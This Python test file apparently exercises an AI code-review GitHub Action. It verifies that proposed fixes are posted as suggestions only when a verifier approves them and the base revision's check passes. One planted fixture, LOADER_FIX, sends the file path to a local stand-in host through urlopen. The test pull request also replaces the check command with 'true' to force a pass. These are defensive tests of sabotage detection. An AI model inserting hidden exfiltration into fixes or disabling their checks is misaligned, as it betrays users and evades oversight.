"""Verified fixes end to end through action.yml: a confirmed finding whose replacement its
verifier approved, that applies and passes the configured check, is posted as a ```suggestion
block that GitHub would commit onto exactly the flagged lines; a replacement that fails the
check, or that the verifier rejected, is posted without one.

The check command comes from the base revision's configuration: the pull request's own
change to it is not what runs.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

from tests.conftest import GitRepoFactory, git
from tests.fakes.github_api import FakeGitHubAPI
from tests.fakes.messages_api import FakeMessagesAPI
from tests.gitrepos import commit
from tests.helpers import cli_launcher, skip_without_bubblewrap
from tests.hosts.github.conftest import (
    NUMBER,
    PullRepo,
    event_payload,
    open_pull,
    read_outputs,
    with_event,
)
from tests.hosts.github.suggestions import apply_suggestion, suggestion_of
from tests.hosts.github.test_action import run_step_in, steps
from tests.scripted import PLANTED_FILES, Concern, ReviewScript, reject_fix

BASE_CONFIG = '[tool.orch-review]\nsuggestion-check = "python3 -m py_compile {path}"\n'
CALC = "def half(x: int) -> float:\n    return x / 2\n"
LOADER = "def load(path: str) -> str:\n    return open(path).read()\n"
# Passes the check, but does more than close the file: only the verifier can stop it.
LOADER_FIX = (
    "    with open(path) as handle:\n"
    "        __import__('urllib.request').request.urlopen('http://127.0.0.1:9/?' + path)\n"
    "        return handle.read()"
)
SAFE_QUERY = (
    '    cursor.execute("SELECT * FROM users WHERE name = ?", (name,))\n'
    "    row = cursor.fetchone()\n"
    "    return row"
)


def _script() -> ReviewScript:
    return ReviewScript(
        [
            Concern(
                "injection",
                "Check app.py for SQL injection: queries built from user input.",
                "grep -n 'execute(f' app.py",
                path="app.py",
                severity="high",
                category="security",
                claim="The query is built with an f-string from `name`: SQL injection.",
                suggestion="Bind `name` as a parameter.",
                replacement=lambda _: SAFE_QUERY,
                span=2,  # the execute and the return after it
            ),
            Concern(
                "division",
                "Check calc.py for divisions that lose precision.",
                "grep -n ' / ' calc.py",
                path="calc.py",
                severity="medium",
                category="correctness",
                claim="half() of an odd int is meant to round down.",
                suggestion="Use floor division.",
                replacement=lambda text: text.replace("/ 2", "// 2 if"),  # a syntax error
            ),
            Concern(
                "handles",
                "Check loader.py for file handles left open.",
                "grep -n 'open(' loader.py",
                path="loader.py",
                severity="low",
                category="resource-leak",
                claim="load() never closes the file it opens.",
                suggestion="Open the file in a `with` block.",
                replacement=lambda _: LOADER_FIX,
                fix=reject_fix,
            ),
        ]
    )


def test_a_verified_fix_is_a_suggestion_and_a_failing_one_is_prose(
    git_repo: GitRepoFactory,
    fake_api: FakeMessagesAPI,
    github_api: FakeGitHubAPI,
    actions_env: dict[str, str],
    tmp_path: Path,
) -> None:
    repo = git_repo({"README.md": "# demo\n", "pyproject.toml": BASE_CONFIG})
    skip_without_bubblewrap(repo)
    base = git(repo, "rev-parse", "HEAD").strip()
    git(repo, "checkout", "-q", "-b", "feature")
    # The pull request also tries to make every check pass: the base's command must run.
    pr_config = '[tool.orch-review]\nsuggestion-check = "true"\n'
    head = commit(
        repo,
        {
            "app.py": PLANTED_FILES["app.py"],
            "calc.py": CALC,
            "loader.py": LOADER,
            "pyproject.toml": pr_config,
        },
    )
    pull = PullRepo(repo, base, head)
    open_pull(github_api, pull)
    fake_api.policy = _script()
    opened = with_event(actions_env, event_payload("opened", pull), tmp_path / "event.json")
    env = {k: v for k, v in opened.items() if not k.startswith(("ANTHROPIC_", "ORCH_REVIEW_"))}
    env.pop("GITHUB_TOKEN")
    env["PWD"] = str(repo)
    env["RUNNER_TEMP"] = str(tmp_path / "runner")
    cli_launcher(Path(env["RUNNER_TEMP"]) / "orch-review-venv" / "bin", env)
    review = next(step for step in steps() if step.get("id") == "review")

    result = run_step_in(
        repo,
        review,
        {
            "anthropic-api-key": "test-key",
            "anthropic-base-url": fake_api.base_url,
            "extra-args": "--no-progress",
            "sandbox": "auto",
        },
        env,
    )

    assert result.returncode == 0, result.stdout + result.stderr
    comments = {c["path"]: c for c in github_api.pulls[NUMBER].review_comments}
    assert set(comments) == {"app.py", "calc.py", "loader.py"}

    injection = comments["app.py"]
    assert (injection["start_line"], injection["line"]) == (6, 7)
    assert suggestion_of(injection["body"]) == SAFE_QUERY
    committed = apply_suggestion(PLANTED_FILES["app.py"], injection)
    assert committed == PLANTED_FILES["app.py"].replace(
        "    cursor.execute(f\"SELECT * FROM users WHERE name = '{name}'\")\n"
        "    return cursor.fetchone()\n",
        SAFE_QUERY + "\n",
    )
    compiled = subprocess.run(
        [sys.executable, "-c", "import ast, sys; ast.parse(sys.stdin.read())"],
        input=committed,
        text=True,
        check=False,
    )
    assert compiled.returncode == 0

    division = comments["calc.py"]
    assert suggestion_of(division["body"]) is None
    assert "```" not in division["body"]
    assert "Use floor division." in division["body"]

    report = json.loads(Path(read_outputs(env)["json-file"]).read_text(encoding="utf-8"))
    patches = {f["path"]: f["patch"] for f in report["findings"]}
    assert patches["app.py"]["verified"] is True
    assert patches["calc.py"]["verified"] is False
    assert "py_compile" in patches["calc.py"]["reason"]
    assert "SyntaxError" in patches["calc.py"]["reason"]

    # The leak is real, the fix would phone home: the verifier confirmed one, rejected the other.
    loader = comments["loader.py"]
    assert suggestion_of(loader["body"]) is None
    assert "```" not in loader["body"] and "urlopen" not in loader["body"]
    assert "Open the file in a `with` block." in loader["body"]
    assert patches["loader.py"]["verified"] is False
    assert patches["loader.py"]["reason"] == (
        "the verifier did not approve the fix: " + reject_fix({}, "")[1]
    )
